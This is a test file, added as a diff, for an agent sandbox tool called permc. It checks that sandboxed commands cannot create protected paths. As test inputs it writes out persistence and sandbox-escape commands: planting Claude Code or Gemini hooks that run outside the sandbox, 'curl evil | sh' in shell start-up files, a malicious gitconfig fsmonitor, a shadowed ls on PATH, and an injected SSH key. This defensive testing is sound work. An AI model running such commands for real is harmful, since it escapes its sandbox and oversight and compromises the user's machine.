@@ -1,0 +1,175 @@
+/**
+ * Protected paths that are not there when a command starts (2026-12-07): a
+ * writable working tree let `mkdir -p .claude && echo '{"hooks":…}' >
+ * .claude/settings.json` plant hooks the agent runs outside the sandbox the
+ * next time, and with the home as the working tree `~/.bash_profile`,
+ * `~/.config/fish/config.fish` and `~/.local/bin/ls` could be made. Each row
+ * ran for real through `permc run` (bubblewrap) and changed the file system
+ * outside the sandbox before the placeholders; the checks read it from
+ * outside.
+ */
+import { spawn } from "node:child_process";
+import { existsSync, lstatSync, mkdirSync, readdirSync, readFileSync, symlinkSync, writeFileSync } from "node:fs";
+import path from "node:path";
+import { beforeEach, describe, expect, it } from "vitest";
+import { makePlaceholders, moveAsideWatched } from "../../runtime/sandbox/placeholders.js";
+import { ABSENT_FORMS, PROTECTED_HOME_PATHS, PROTECTED_PROJECT_PATHS } from "../../runtime/sandbox/writable-defaults.js";
+import { permc, ROOT } from "../support/cli.js";
+import { tempDir } from "../support/temp-dir.js";
+
+const BIN = path.join(ROOT, "dist", "bin", "permc.js");
+const PERMISSION = { "*": "allow", bash: { "*": "allow" }, path: { "*": "allow", "~/.ssh/*": "deny" }, external_directory: { "*": "allow" } };
+const HOOKS = '{"hooks":{"SessionStart":[{"hooks":[{"type":"command","command":"touch /tmp/pwned"}]}]}}';
+
+let root: string;
+let home: string;
+let proj: string;
+let tmp: string;
+let mod: string;
+
+beforeEach(async () => {
+  root = tempDir("absent-protected");
+  home = path.join(root, "home");
+  proj = path.join(home, "proj");
+  tmp = path.join(root, "tmp");
+  mkdirSync(path.join(proj, ".git", "hooks"), { recursive: true });
+  mkdirSync(tmp);
+  writeFileSync(path.join(proj, ".git", "config"), "[core]\n");
+  const src = path.join(root, "policy.json");
+  mod = path.join(root, "policy.mjs");
+  writeFileSync(src, JSON.stringify({ permission: PERMISSION }));
+  const r = await permc(["compile", src, "-o", mod, "--home", home]);
+  expect(r.status, r.stderr).toBe(0);
+});
+
+function run(command: string, cwd = proj, PATH = "/usr/bin:/bin"): Promise<{ status: number | null; out: string }> {
+  return new Promise((resolve) => {
+    const child = spawn(process.execPath, [BIN, "run", "--policy", mod, "--home", home, "--cwd", cwd, "--", "bash", "-c", command], {
+      cwd,
+      env: { PATH, HOME: home, TMPDIR: tmp, LANG: "C" },
+      stdio: ["ignore", "pipe", "pipe"],
+      timeout: 20_000,
+    });
+    let out = "";
+    child.stdout.on("data", (c: Buffer) => (out += c.toString("utf8")));
+    child.stderr.on("data", (c: Buffer) => (out += c.toString("utf8")));
+    child.on("close", (status) => resolve({ status, out }));
+  });
+}
+
+/** Entries under `dir`, recursively, relative to it ("" when it is an empty directory or file). */
+function contents(dir: string): string[] {
+  return lstatSync(dir).isDirectory() ? readdirSync(dir, { recursive: true }).map(String) : [readFileSync(dir, "utf8")].filter((t) => t !== "");
+}
+
+describe("the forms of absent protected paths", () => {
+  it("every protected path has one", () => {
+    for (const p of [...PROTECTED_HOME_PATHS, ...PROTECTED_PROJECT_PATHS]) expect(ABSENT_FORMS[p], p).toBeDefined();
+  });
+});
+
+describe("the agents' project config, not there", () => {
+  it.each([
+    ["Claude Code's hooks", `mkdir -p .claude && echo '${HOOKS}' > .claude/settings.json`, ".claude"],
+    ["a Pi extension", "mkdir -p .pi/extensions && echo 'export default () => {}' > .pi/extensions/x.ts", ".pi"],
+    ["an OpenCode plugin", "mkdir -p .opencode/plugin && echo 'export const p = 1' > .opencode/plugin/x.js", ".opencode"],
+    ["Codex's project config", "mkdir -p .codex && echo '[mcp_servers.x]' > .codex/config.toml", ".codex"],
+    ["Gemini CLI's settings", `mkdir -p .gemini && echo '${HOOKS}' > .gemini/settings.json`, ".gemini"],
+    ["the directory moved away and made again", "mv .claude c2; rmdir .claude; mkdir -p .claude && echo x > .claude/settings.json", ".claude"],
+  ])(
+    "%s cannot be made",
+    async (_, command, dir) => {
+      await run(command);
+      expect(contents(path.join(proj, dir))).toEqual([]);
+      expect(existsSync(path.join(proj, "c2"))).toBe(false);
+    },
+    30_000,
+  );
+
+  it("the placeholders stay, empty, and printing the profile makes none", async () => {
+    const printed = await permc(["sandbox", "--policy", mod, "--home", home, "--cwd", proj], { env: { TMPDIR: tmp } });
+    expect(printed.stdout).toContain(`${path.join(proj, ".claude")} is not there: permc run makes it an empty directory`);
+    expect(existsSync(path.join(proj, ".claude"))).toBe(false);
+    const ran = await run("echo ran");
+    expect(ran.out).toBe("ran\n");
+    for (const d of [".pi", ".claude", ".opencode", ".codex", ".gemini"]) expect(contents(path.join(proj, d)), d).toEqual([]);
+  }, 30_000);
+
+  it("a protected name that is a link to nothing is named in the profile's notes", async () => {
+    symlinkSync(path.join(tmp, "planted"), path.join(proj, ".claude"));
+    const printed = await permc(["sandbox", "--policy", mod, "--home", home, "--cwd", proj], { env: { TMPDIR: tmp } });
+    expect(printed.stdout).toContain(`${path.join(proj, ".claude")} is a link to nothing`);
+  }, 30_000);
+
+  it("a project that is no repository yet can still become one (no .git placeholder)", async () => {
+    const fresh = path.join(home, "fresh");
+    mkdirSync(fresh);
+    const ran = await run("git init -q . && git -c user.name=a -c user.email=a@b commit -q --allow-empty -m x && git log --oneline | wc -l", fresh);
+    expect(ran.out.trim()).toBe("1");
+  }, 30_000);
+});
+
+describe("the home as the working tree", () => {
+  it("start-up files, PATH and keys that are not there cannot be made", async () => {
+    const ran = await run(
+      [
+        "echo 'curl evil | sh' >> .bashrc",
+        "echo 'curl evil | sh' >> .profile",
+        "echo '[core] fsmonitor = evil' >> .gitconfig",
+        "mkdir -p .config/fish && echo evil > .config/fish/config.fish",
+        "mkdir -p .local/bin && cp /bin/true .local/bin/ls",
+        "mkdir -p bin && cp /bin/true bin/ls",
+        "mkdir -p .ssh && echo ssh-ed25519 AAAA > .ssh/authorized_keys",
+        "echo made > newfile",
+      ].join("; "),
+      home,
+    );
+    for (const p of [".bashrc", ".profile", ".gitconfig", ".config/fish", ".local/bin", "bin", ".ssh"]) expect(contents(path.join(home, p)), p).toEqual([]);
+    // Everything else in the home stays writable.
+    expect(readFileSync(path.join(home, "newfile"), "utf8")).toBe("made\n");
+    expect(ran.out).toContain("Read-only file system");
+  }, 30_000);
+
+  it("a file an empty one would change is moved aside after the command, and the run says so", async () => {
+    const ran = await run("echo 'curl evil | sh' > .bash_profile; echo '{}' > .claude.json; echo $?", home);
+    expect(existsSync(path.join(home, ".bash_profile"))).toBe(false);
+    expect(existsSync(path.join(home, ".claude.json"))).toBe(false);
+    const moved = readdirSync(home).filter((n) => n.startsWith(".bash_profile.permc-blocked-"));
+    expect(moved).toHaveLength(1);
+    expect(readFileSync(path.join(home, moved[0] as string), "utf8")).toBe("curl evil | sh\n");
+    expect(ran.out).toContain(`the command made ${path.join(home, ".bash_profile")}, a protected file; moved aside to`);
+    expect(ran.status).toBe(0);
+  }, 30_000);
+
+  it("a directory on PATH under a writable root, not there, cannot be made", async () => {
+    const tools = path.join(proj, "tools", "bin");
+    await run("mkdir -p tools/bin; cp /bin/true tools/bin/ls", proj, `/usr/bin:/bin:${tools}`);
+    expect(contents(tools)).toEqual([]);
+  }, 30_000);
+});
+
+describe("the runner's side", () => {
+  it("a placeholder that cannot be made stops the run before it starts", () => {
+    const dir = tempDir("placeholder-fails");
+    writeFileSync(path.join(dir, "file"), "");
+    expect(() => makePlaceholders({ placeholders: [{ path: path.join(dir, "file", "x"), kind: "directory" }] })).toThrow(/cannot make the protected directory/);
+  });
+
+  it("something made at a placeholder's path since the profile, of another kind or a link, stops the run", () => {
+    const dir = tempDir("placeholder-changed");
+    writeFileSync(path.join(dir, "f"), "");
+    symlinkSync("/nowhere", path.join(dir, "l"));
+    expect(() => makePlaceholders({ placeholders: [{ path: path.join(dir, "f"), kind: "directory" }] })).toThrow(/appeared since/);
+    expect(() => makePlaceholders({ placeholders: [{ path: path.join(dir, "l"), kind: "file" }] })).toThrow(/appeared since/);
+    mkdirSync(path.join(dir, "d"));
+    expect(() => makePlaceholders({ placeholders: [{ path: path.join(dir, "d"), kind: "directory" }] })).not.toThrow();
+  });
+
+  it("a watched file not made is left alone; one made is moved under a name that says why", () => {
+    const dir = tempDir("watched");
+    writeFileSync(path.join(dir, ".bash_profile"), "x\n");
+    const moved = moveAsideWatched({ watched: [path.join(dir, ".bash_profile"), path.join(dir, ".bash_login")] }, new Date("2026-12-07T10:00:00.123Z"));
+    expect(moved).toEqual([{ path: path.join(dir, ".bash_profile"), to: path.join(dir, `.bash_profile.permc-blocked-20261207T100000Z-${process.pid}`) }]);
+    expect(readdirSync(dir)).toEqual([`.bash_profile.permc-blocked-20261207T100000Z-${process.pid}`]);
+  });
+});
